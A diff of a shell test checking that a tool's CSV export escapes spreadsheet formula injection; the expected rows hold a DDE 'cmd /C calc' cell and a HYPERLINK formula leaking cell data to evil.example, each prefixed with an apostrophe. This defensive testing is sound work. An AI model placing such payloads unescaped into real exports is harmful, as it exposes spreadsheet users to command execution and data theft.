@@ -82,11 +82,11 @@ f3=$OUT
 
 run session list --format csv --with-notes
 expect_rc 0 "csv --with-notes"
-expect_out_has $'\r\n'"$f1,2026-11-18,,10,P1,emotional,in-person,office,yes,,\"'+cmd|\"\" /C calc\"\"!A0\",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click me\"\")\","$'\r' \
+expect_out_has $'\r\n'"$f1,2026-11-18,,10,P1,emotional,in-person,office,yes,,\"'+cmd|\"\" /C calc\"\"!A0\",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click me\"\")\",,,,0,no"$'\r' \
     "=HYPERLINK and + cells get a leading ' inside an RFC 4180 quoted cell"
-expect_out_has $'\r\n'"$f2,2026-11-18,,10,P1,emotional,in-person,office,yes,,'-2+3,'@SUM(1+1),"$'\r' \
+expect_out_has $'\r\n'"$f2,2026-11-18,,10,P1,emotional,in-person,office,yes,,'-2+3,'@SUM(1+1),,,,0,no"$'\r' \
     "- and @ cells get a leading '"
-expect_out_has $'\r\n'"$f3,2026-11-18,,10,P1,emotional,in-person,office,no,,,'"$'\t=1+1,\r' \
+expect_out_has $'\r\n'"$f3,2026-11-18,,10,P1,emotional,in-person,office,no,,,'"$'\t=1+1,,,,0,no\r' \
     "a tab-led cell gets a leading '"
 check '! LC_ALL=C grep -q "[,]=HYPERLINK" "$WORK/out"' "no cell starts with ="
 
